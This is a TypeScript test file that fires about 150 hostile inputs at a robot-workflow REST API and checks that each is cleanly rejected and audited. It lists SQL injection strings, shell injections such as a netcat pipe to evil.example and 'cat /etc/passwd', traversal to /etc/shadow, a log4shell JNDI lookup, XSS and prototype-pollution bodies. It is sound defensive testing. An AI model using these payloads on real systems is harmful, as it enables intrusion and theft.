import request from 'supertest';
import { ROBOT_WORKFLOW } from '../../core/domain/robot-workflow.contract';
import { eventually, startTestSystem, type TestSystem } from '../support/test-system';

// Table-driven hostile input across every route. Each case: the exact status and problem type, a
// problem+json body without a stack trace, no robot row; mutating and refused requests leave an
// audit row. Afterwards: no workflow was started, nothing was polluted, and the API is healthy.

let system: TestSystem;

beforeAll(async () => {
  system = await startTestSystem({ env: { RATE_LIMIT_PER_IP: '10000', RATE_LIMIT_PER_KEY: '10000' } });
});

afterAll(async () => {
  await system?.close();
});

type Method = 'get' | 'post' | 'delete';
interface Case {
  name: string;
  method: Method;
  path: string;
  body?: unknown;
  raw?: string;
  headers?: Record<string, string>;
  anonymous?: boolean;
  status: number;
  type: string;
}

// Strings that must never be accepted as a name, type, id or filter anywhere.
const HOSTILE: [string, string][] = [
  ['SQL tautology', "' OR '1'='1"],
  ['SQL stacked query', "x'; DROP TABLE robots; --"],
  ['SQL sleep', '1; SELECT pg_sleep(10)'],
  ['SQL comment', "demo' --"],
  ['SQL union', "' UNION SELECT hash FROM api_keys --"],
  ['NoSQL operator', '{"$gt": ""}'],
  ['NoSQL where', "'; return true; var x='"],
  ['shell backticks', '`id`'],
  ['shell subshell', '$(reboot)'],
  ['shell chain', 'demo; cat /etc/passwd'],
  ['shell pipe', 'demo | nc evil.example 4444'],
  ['path traversal', '../../etc/passwd'],
  ['encoded traversal', '..%2f..%2fetc%2fpasswd'],
  ['windows traversal', '..\\..\\windows\\win.ini'],
  ['RTL override', 'demo\u202egnp.exe'],
  ['zero-width space', 'de\u200bmo'],
  ['BOM', '\ufeffdemo'],
  ['combining mark', 'dem\u0301o'],
  ['fullwidth letters', 'ＤＥＭＯ'],
  ['overlong UTF-8 as text', '%C0%AE%C0%AE%2F'],
  ['lone surrogate', 'demo\ud800'],
  ['NUL byte', 'demo\u0000'],
  ['ANSI escape', '\u001b[31mdemo'],
  ['CRLF injection', 'demo\r\nX-Injected: 1'],
  ['HTML', '<script>alert(1)</script>'],
  ['log4shell', `${'$'}{jndi:ldap://evil.example/a}`],
  ['template', '{{7*7}}'],
  ['emoji', 'demo🤖'],
  ['prototype word', '__proto__'],
  ['huge', 'a'.repeat(10_000)],
];

const encode = (text: string) => {
  try {
    return encodeURIComponent(text);
  } catch {
    return 'demo%ED%A0%80'; // a lone surrogate cannot be encoded: send its raw UTF-8 bytes
  }
};

const validModule = {
  name: 'ok-module',
  version: '1.0.0',
  supportedRobotTypes: ['*'],
  supportedSteps: ['noop'],
  capacity: 1,
};

const cases: Case[] = [];
const v = (name: string, method: Method, path: string, extra: Partial<Case> = {}): Case => ({
  name,
  method,
  path,
  status: 400,
  type: 'validation-error',
  ...extra,
});

for (const [label, text] of HOSTILE) {
  // A lone surrogate cannot be percent-decoded: the router refuses it before validation.
  const inPath = { type: encode(text).includes('%ED%A0%80') ? 'malformed-url' : 'validation-error' };
  cases.push(v(`robot type: ${label}`, 'post', '/v1/robots', { body: { type: text } }));
  cases.push(v(`robot id: ${label}`, 'get', `/v1/robots/${encode(text)}`, inPath));
  cases.push(v(`robot list type filter: ${label}`, 'get', `/v1/robots?type=${encode(text)}`));
  cases.push(v(`module name in path: ${label}`, 'get', `/v1/modules/${encode(text)}`, inPath));
  cases.push(
    v(`module registration name: ${label}`, 'post', '/v1/modules', { body: { ...validModule, name: text } }),
  );
  cases.push(v(`secret name: ${label}`, 'post', '/v1/secrets', { body: { name: text, value: 'x' } }));
  cases.push(v(`audit action filter: ${label}`, 'get', `/v1/audit?action=${encode(text)}`));
}

cases.push(
  // wrong types
  ...[1, true, null, [], {}].map((type) =>
    v(`robot type as ${JSON.stringify(type)}`, 'post', '/v1/robots', { body: { type } }),
  ),
  ...['text', 1, [], null].map((input) =>
    v(`robot input as ${JSON.stringify(input)}`, 'post', '/v1/robots', { body: { type: 'demo', input } }),
  ),
  ...[1, null, 'URGENT'].map((priority) =>
    v(`priority ${JSON.stringify(priority)}`, 'post', '/v1/robots', { body: { type: 'demo', priority } }),
  ),
  v('robot body an array', 'post', '/v1/robots', { raw: '[{"type":"demo"}]' }),
  ...['null', '"demo"', '123', 'true'].map((raw) =>
    v(`robot body ${raw}`, 'post', '/v1/robots', { raw, type: 'malformed-json' }),
  ),
  v('module capacity as string', 'post', '/v1/modules', { body: { ...validModule, capacity: '5' } }),
  v('module steps as string', 'post', '/v1/modules', { body: { ...validModule, supportedSteps: 'noop' } }),
  v('key scopes as string', 'post', '/v1/keys', { body: { name: 'k', scopes: 'admin' } }),
  v('secret value as object', 'post', '/v1/secrets', { body: { name: 's', value: { $gt: '' } } }),
  // numbers out of range
  ...['0', '-1', '101', '1.5', '1e309', '99999999999999999999', 'Infinity', '1e3', 'abc'].map((limit) =>
    v(`robot list limit=${limit}`, 'get', `/v1/robots?limit=${limit}`),
  ),
  ...[0, -1, 1.5, 1e20, Number.MAX_SAFE_INTEGER].map((capacity) =>
    v(`module capacity ${capacity}`, 'post', '/v1/modules', { body: { ...validModule, capacity } }),
  ),
  v('heartbeat capacity 0', 'post', '/v1/modules/ok-module/heartbeat', {
    body: { replicaId: 'r1', capacity: 0 },
  }),
  v('audit limit=201', 'get', '/v1/audit?limit=201'),
  v('audit from not a date', 'get', '/v1/audit?from=2026-13-45T99:99:99Z'),
  v('key expires 999999d', 'post', '/v1/keys', {
    body: { name: 'k', scopes: ['admin'], expires: '999999d' },
  }),
  v('secret value too long', 'post', '/v1/secrets', { body: { name: 's', value: 'x'.repeat(8193) } }),
  // prototype pollution
  v('__proto__ at the top', 'post', '/v1/robots', { raw: '{"type":"demo","__proto__":{"isAdmin":true}}' }),
  v('__proto__ in input', 'post', '/v1/robots', {
    raw: '{"type":"demo","input":{"__proto__":{"isAdmin":true}}}',
  }),
  v('escaped __proto__', 'post', '/v1/robots', {
    raw: '{"type":"demo","input":{"\\u005f\\u005fproto__":{"isAdmin":true}}}',
  }),
  v('constructor.prototype', 'post', '/v1/robots', {
    raw: '{"type":"demo","input":{"constructor":{"prototype":{"isAdmin":true}}}}',
  }),
  v('prototype in a module', 'post', '/v1/modules', { raw: `{"name":"x","prototype":{},"version":"1.0.0"}` }),
  v('__proto__ in an array item', 'post', '/v1/robots', {
    raw: '{"type":"demo","input":{"a":[{"__proto__":{}}]}}',
  }),
  // deep and duplicate JSON
  v('25 nested objects', 'post', '/v1/robots', {
    raw: `{"type":"demo","input":${'{"a":'.repeat(24)}1${'}'.repeat(24)}}`,
  }),
  v('10000 nested arrays', 'post', '/v1/robots', {
    raw: `{"type":"demo","input":{"a":${'['.repeat(10_000)}${']'.repeat(10_000)}}}`,
  }),
  v('duplicate type', 'post', '/v1/robots', { raw: '{"type":"nope","type":"demo"}' }),
  v('duplicate nested key', 'post', '/v1/robots', { raw: '{"type":"demo","input":{"text":"a","text":"b"}}' }),
  v('duplicate module name', 'post', '/v1/modules', {
    raw: JSON.stringify(validModule).replace('"name":"ok-module"', '"name":"ok-module","name":"evil"'),
  }),
  // huge bodies and strings
  v('a 200 kB body', 'post', '/v1/robots', {
    body: { type: 'demo', input: { text: 'x'.repeat(200 * 1024) } },
    status: 413,
    type: 'body-too-large',
  }),
  v('a 10 kB type', 'post', '/v1/robots', { body: { type: 'a'.repeat(10_000) } }),
  v('a 10 kB idempotency key', 'post', '/v1/robots', {
    body: { type: 'demo' },
    headers: { 'idempotency-key': 'k'.repeat(10_000) },
  }),
  // header abuse
  v('idempotency key with spaces', 'post', '/v1/robots', {
    body: { type: 'demo' },
    headers: { 'idempotency-key': 'a b' },
  }),
  v('idempotency key with a tab', 'post', '/v1/robots', {
    body: { type: 'demo' },
    headers: { 'idempotency-key': 'a\tb' },
  }),
  v('form-encoded body', 'post', '/v1/robots', {
    raw: 'type=demo',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    status: 415,
    type: 'unsupported-media-type',
  }),
  v('XML body', 'post', '/v1/robots', {
    raw: '<robot type="demo"/>',
    headers: { 'content-type': 'text/xml' },
    status: 415,
    type: 'unsupported-media-type',
  }),
  v('Latin-1 charset', 'post', '/v1/robots', {
    raw: '{"type":"demo"}',
    headers: { 'content-type': 'application/json; charset=iso-8859-1' },
    status: 415,
    type: 'unsupported-media-type',
  }),
  v('UTF-16 charset with UTF-8 bytes', 'post', '/v1/robots', {
    raw: '{"type":"demo"}',
    headers: { 'content-type': 'application/json; charset=utf-16' },
    type: 'malformed-json',
  }),
  v('JSON content type, XML body', 'post', '/v1/robots', { raw: '<robot/>', type: 'malformed-json' }),
  ...[
    ['no key', {}],
    ['an empty bearer', { authorization: 'Bearer' }],
    ['a huge bearer', { authorization: `Bearer ${'A'.repeat(8000)}` }],
    ['SQL in the key', { authorization: "Bearer rpa_abcdefgh_' OR '1'='1" }],
    ['a key with a NUL', { 'x-api-key': 'rpa_abcdefgh_%00' }],
    ['Basic auth', { authorization: 'Basic YWRtaW46YWRtaW4=' }],
    ['two schemes', { authorization: 'Bearer a, Bearer b' }],
  ].map(([label, headers]) =>
    v(`robot create with ${label}`, 'post', '/v1/robots', {
      body: { type: 'demo' },
      headers: headers as Record<string, string>,
      anonymous: true,
      status: 401,
      type: 'unauthorized',
    }),
  ),
  // path traversal and odd paths
  v('traversal in a secret name', 'delete', `/v1/secrets/${encode('../../etc/passwd')}`),
  v('traversal in a key id', 'delete', `/v1/keys/${encode('../../../etc/shadow')}`),
  v('traversal in module drain', 'post', `/v1/modules/${encode('../admin')}/drain`),
  v('traversal in module delete', 'delete', `/v1/modules/${encode('..')}`),
  v('traversal in robot events', 'get', `/v1/robots/${encode('../../etc')}/events`),
  v('bad percent-encoding', 'get', '/v1/robots/%E0%A4%A', { type: 'malformed-url' }),
  v('overlong UTF-8 in the path', 'get', '/v1/modules/%C0%AE%C0%AE', { type: 'malformed-url' }),
  v('unknown query parameter', 'get', '/v1/robots?$where=1'),
  v('array query parameter', 'get', '/v1/robots?status[]=queued&status[]=failed'),
  v('object query parameter', 'get', '/v1/robots?status[$ne]=x'),
  v(
    'cursor injection',
    'get',
    `/v1/robots?cursor=${Buffer.from("2026-01-01T00:00:00Z|' OR 1=1").toString('base64url')}`,
  ),
);

async function robotCount(): Promise<number> {
  return Number((await system.sql.query('select count(*)::int as n from robots')).rows[0].n);
}

describe(`hostile input (${cases.length} cases)`, () => {
  it('has at least 150 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(150);
  });

  it.each(cases.map((c, i) => [c.name, i, c] as const))('%s', async (_name, index, c) => {
    const requestId = `hostile-${index}`;
    const agent = c.anonymous ? request(system.url) : system.api;
    let call = agent[c.method](c.path).set('x-request-id', requestId);
    if (c.raw !== undefined) call = call.set('content-type', 'application/json');
    if (c.headers) call = call.set(c.headers);
    const res = await (c.raw !== undefined
      ? call.send(c.raw)
      : c.body !== undefined
        ? call.send(c.body as object)
        : call);

    expect(res.status).toBeLessThan(500);
    expect({ status: res.status, type: res.body.type }).toEqual({
      status: c.status,
      type: `/problems/${c.type}`,
    });
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(typeof res.body.title).toBe('string');
    expect(JSON.stringify(res.body)).not.toMatch(/\n\s+at |node_modules/);
    expect(await robotCount()).toBe(0);
    if (c.method !== 'get' || c.status === 401) {
      const row = await eventually(async () => {
        const rows = await system.sql.query('select * from audit_log where request_id = $1', [requestId]);
        return rows.rows[0];
      }, 5000);
      expect(row).toMatchObject({ status: c.status, outcome: c.status === 401 ? 'denied' : 'failure' });
    }
  });

  it('left no workflow, polluted nothing, and the API is healthy', async () => {
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('isAdmin');
    // Visibility is eventually consistent: start one good robot and wait until it is listed;
    // it must then be the only workflow on this file's control queue.
    const good = await system.api.post('/v1/robots').send({ type: 'demo', input: { text: 'fine' } });
    expect(good.status).toBe(201);
    const ids = await eventually(async () => {
      const found: string[] = [];
      for await (const wf of system.temporal.workflow.list({
        // Robot workflows only: the control queue also runs the maintenance workflows.
        query: `TaskQueue = "${system.config.CONTROL_TASK_QUEUE}" AND WorkflowType = "${ROBOT_WORKFLOW}"`,
      })) {
        found.push(wf.workflowId);
      }
      return found.length > 0 ? found : undefined;
    });
    expect(ids).toEqual([good.body.robotId]);
    await system.temporal.workflow.getHandle(good.body.robotId).result();
    const health = await request(system.url).get('/health');
    expect(health.status).toBe(200);
    expect(health.body.status).toBe('ok');
    expect(
      (
        await system.sql.query(
          "select count(*)::int as n from module_registry where module_name in ('ok-module', 'evil')",
        )
      ).rows[0].n,
    ).toBe(0);
  });
});
